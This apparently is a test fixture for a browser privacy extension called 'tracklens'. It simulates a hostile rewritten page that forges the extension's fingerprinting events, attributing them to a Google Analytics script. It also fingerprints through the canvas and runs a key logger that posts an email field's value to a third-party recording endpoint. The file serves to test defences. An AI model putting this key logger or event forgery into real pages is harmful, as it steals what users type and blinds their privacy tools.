// Runs in the page hostile-open.js wrote with document.open(), in the same window. Tries to
// forge fingerprinting findings in the rewritten document, then fingerprints for real and logs
// a key logger's uploads (GET /hostile-log?step=..., the tests' witness).
(function () {
  var FAKE_SCRIPT = 'https://www.google-analytics.com/analytics.js';
  function log(step) {
    return fetch('/hostile-log?step=' + encodeURIComponent(step), { cache: 'no-store' }).catch(function () {});
  }
  // Forgeries: the probe's old fixed name, a fresh hello offering a channel the page knows, and
  // events on it, on the document, its new root and the window.
  function forge(type) {
    var byScript = {};
    byScript[FAKE_SCRIPT] = { canvas_readback: 40, fonts: 120, navigator: { userAgent: true }, screen: { width: true } };
    var detail = JSON.stringify({ page: location.href, scripts: byScript });
    [document, document.documentElement, window].forEach(function (target) {
      target.dispatchEvent(new CustomEvent(type, { detail: detail }));
    });
  }
  forge('tracklens:fingerprint');
  document.dispatchEvent(new CustomEvent('tracklens:relay-hello', { detail: 'tracklens:fingerprint-forged' }));
  document.dispatchEvent(new MouseEvent('tracklens:relay-hello', { relatedTarget: document.documentElement }));
  forge('tracklens:fingerprint-forged');
  log('late-forged');

  // Real fingerprinting after the rewrite (attributed to this script), after the forgeries.
  var canvas = document.createElement('canvas');
  canvas.getContext('2d').fillText('after', 2, 2);
  canvas.toDataURL();

  // A key logger in the rewritten page: uploads the field's value a moment after the last input.
  document.addEventListener('DOMContentLoaded', function () {
    var field = document.getElementById('email');
    var timer = null;
    field.addEventListener('input', function () {
      if (field.value.indexOf('@') < 0) return;
      clearTimeout(timer);
      timer = setTimeout(function () {
        var value = field.value;
        fetch('https://rs.fullstory.com/rec/bundle?OrgId=HOSTILE', { method: 'POST', mode: 'no-cors', body: 'v=' + value })
          .then(function () { return log('late-upload:' + value); });
      }, 300);
    });
  });
})();
